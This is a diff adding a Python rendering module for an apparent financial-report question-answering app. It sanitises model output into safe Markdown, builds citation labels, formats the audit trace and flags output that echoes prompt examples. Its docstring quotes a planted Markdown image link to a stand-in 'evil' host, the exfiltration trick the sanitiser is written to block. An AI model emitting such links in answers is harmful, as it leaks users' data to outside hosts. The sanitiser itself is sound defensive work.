@@ -1,0 +1,179 @@
+"""How an answer is shown: model output as text, citations as short labels, the trace as steps.
+
+* :func:`safe_markdown` — model output (and text copied from reports) rendered as text: images,
+  links, raw HTML and link definitions are removed, bare URLs cannot become links; the only
+  decoration left is what Annalyst itself adds (citation labels, the facts route's tables).
+  A planted ``![x](http://evil/?q=…)`` never makes the browser fetch anything.
+* :func:`citation_labels` — "[NETFLIX_2017_10K.pdf p.41]" → "Netflix 2017 · p.41".
+* :func:`trace_steps` — the audit trail as rows (step, tool, inputs, result, page).
+* :func:`echoes_prompt_example` — text that repeats the answer prompt's own examples.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+from backend.answering.answer import REFUSAL_EN, REFUSAL_ZH
+from backend.answering.prompts import FEW_SHOT
+from backend.domain.companies import strip_legal
+
+_IMAGE = re.compile(r"!\s*\[([^\]]*)\]\s*(?:\([^)]*\)|\[[^\]]*\])?")
+_LINK = re.compile(r"\[([^\]]*)\]\s*\((?:[^()]|\([^)]*\))*\)")
+_LINK_REF = re.compile(r"\[([^\]]*)\]\s*\[[^\]]*\]")
+_LINK_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.M)
+_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript)\s*:\s*/*", re.I)
+_WWW = re.compile(r"\bwww\.", re.I)
+_EMAIL_AT = re.compile(r"(?<=\w)@(?=\w)")
+_ZWSP = "\u200b"
+_REFUSAL_ANSWERS = {REFUSAL_EN, REFUSAL_ZH}
+
+
+def safe_markdown(text: str, labels: dict[str, str] | None = None) -> str:
+    """``text`` made safe to render as Markdown; ``labels`` maps the app's own citation tags
+    (``[file p.N]``) to the short labels shown instead."""
+    out = strip_links(text).replace("<", "&lt;").replace(">", "&gt;")
+    out = _URL.sub(lambda m: m.group(0).replace(":", ":" + _ZWSP), out)
+    out = _WWW.sub("www" + _ZWSP + ".", out)
+    out = _EMAIL_AT.sub("@" + _ZWSP, out)
+    out = out.replace("$", "\\$")
+    for tag, label in (labels or {}).items():
+        out = out.replace(tag, f":blue-background[{label}]")
+    return out
+
+
+def strip_links(text: str) -> str:
+    """``text`` without Markdown images (their alt text stays), links (their text stays) and link
+    definitions."""
+    out = _IMAGE.sub(lambda m: m.group(1), text)
+    out = _LINK_DEF.sub("", out)
+    out = _LINK.sub(lambda m: m.group(1), out)
+    return _LINK_REF.sub(lambda m: m.group(1), out)
+
+
+def short_label(doc: Any, page: int) -> str:
+    """ "Netflix 2017 · p.41", "华锦股份 2019 · p.88", "Best Buy 2023 10-Q · p.3"."""
+    if doc is None:
+        return f"p.{page}"
+    zh = bool(re.search(r"[\u4e00-\u9fff]", doc.company or ""))
+    name = (doc.aliases[0] if zh and doc.aliases else strip_legal(doc.company or "")) or (
+        doc.file_name.rsplit(".", 1)[0][:24]
+    )
+    kind = doc.report_type or ""
+    annual = not kind or kind.upper() == "10-K" or "年度报告" in kind or "annual" in kind.lower()
+    parts = [name, str(doc.fiscal_year or ""), "" if annual else kind]
+    return " ".join(p for p in parts if p) + f" · p.{page}"
+
+
+def citation_labels(citations: Sequence[Any], document: Any) -> dict[str, str]:
+    """Each citation's tag (``[file p.N]``) → its short label; ``document(doc_id)`` gives the
+    catalogue's record."""
+    docs: dict[str, Any] = {}
+    out: dict[str, str] = {}
+    for c in citations:
+        if c.doc_id not in docs:
+            docs[c.doc_id] = document(c.doc_id)
+        out[c.tag] = short_label(docs[c.doc_id], c.page)
+    return out
+
+
+# --- the trace as steps ---------------------------------------------------------------------------
+def _inputs(args: dict[str, Any]) -> str:
+    return ", ".join(f"{k}={v}" for k, v in args.items() if v not in (None, "", []))
+
+
+def _result(tool: str, result: Any) -> tuple[str, str]:
+    """(a one-line result, the pages it comes from)."""
+    if tool == "calculate" and isinstance(result, dict):
+        return f"{result.get('expression')} = {result.get('value')}", ""
+    if isinstance(result, list) and result and isinstance(result[0], dict):
+        first = result[0]
+        if "value" in first:  # facts: get_fact / compare
+            rows = [
+                f"{r.get('company')} {r.get('year')} {r.get('label')} = {r.get('value')} "
+                f"{r.get('unit') or ''}".strip()
+                for r in result[:3]
+            ]
+            pages = [f"{r.get('file')} p.{r.get('page')}" for r in result[:3]]
+            return "; ".join(rows), "; ".join(dict.fromkeys(pages))
+        pages = [f"{r.get('file')} p.{r.get('page')}" for r in result[:5] if "page" in r]
+        return f"{len(result)} passages", "; ".join(dict.fromkeys(pages))
+    if not result:
+        return "—", ""
+    return str(result)[:200], ""
+
+
+def trace_steps(trace: Iterable[dict[str, Any]]) -> list[dict[str, str]]:
+    """One row per step of the audit trail: step, tool, inputs, result, page."""
+    rows = []
+    for step in trace:
+        name = str(step.get("step", "?"))
+        if name == "tool":
+            tool = str(step.get("tool", ""))
+            result, pages = _result(tool, step.get("result"))
+            if step.get("error"):
+                result = f"⚠ {step['error']}"
+            rows.append(
+                {
+                    "step": name,
+                    "tool": tool,
+                    "inputs": _inputs(step.get("args") or {}),
+                    "result": result,
+                    "page": pages,
+                }
+            )
+            continue
+        details = {k: v for k, v in step.items() if k != "step"}
+        query = str(details.pop("query", "") or details.pop("standalone_question", ""))
+        results = details.pop("results", None)
+        pages = "; ".join(map(str, results[:5])) if isinstance(results, list) else ""
+        reason = details.pop("reason", "")
+        text = f"{len(results)} passages" if isinstance(results, list) else ""
+        text = str(reason or text or _inputs(details))
+        rows.append(
+            {"step": name, "tool": "", "inputs": query, "result": text[:300], "page": pages}
+        )
+    return rows
+
+
+# --- the prompt's own examples --------------------------------------------------------------------
+def _example_markers() -> list[str]:
+    """The names the answer prompt's examples are about ("Acme Corp", "示例公司")."""
+    markers = []
+    for _, example in FEW_SHOT:
+        if example in _REFUSAL_ANSWERS:
+            continue
+        m = re.match(r"[A-Z]\w*(?: [A-Z]\w*)*|[\u4e00-\u9fff]{2,4}", example)
+        if m:
+            markers.append(m.group(0))
+    return markers
+
+
+def echoes_prompt_example(text: str, question: str) -> bool:
+    """True when ``text`` names what the prompt's examples are about and the question does not."""
+    low, q = text.lower(), question.lower()
+    return any(m.lower() in low and m.lower() not in q for m in _example_markers())
+
+
+# --- an empty chat ----------------------------------------------------------------------------------
+def example_questions(docs: Sequence[Any], limit: int = 3) -> list[str]:
+    """Questions the indexed reports answer, to start an empty chat (the newest annual report of
+    each language first)."""
+    annual = [d for d in docs if d.company and d.fiscal_year]
+    annual.sort(key=lambda d: (d.fiscal_year, d.company), reverse=True)
+    en = next((d for d in annual if not re.search(r"[\u4e00-\u9fff]", d.company)), None)
+    zh = next((d for d in annual if re.search(r"[\u4e00-\u9fff]", d.company)), None)
+    out = []
+    if en is not None:
+        name, y = strip_legal(en.company), en.fiscal_year
+        out += [
+            f"What was {name}'s total revenue in FY{y}?",
+            f"How much did {name}'s net income change from FY{y - 1} to FY{y}?",
+        ]
+    if zh is not None:
+        name = zh.aliases[0] if zh.aliases else strip_legal(zh.company)
+        out.insert(1, f"{name}{zh.fiscal_year}年的营业收入是多少？")
+    if en is not None:
+        out.append(f"What are the main risk factors {strip_legal(en.company)} describes?")
+    return out[:limit]
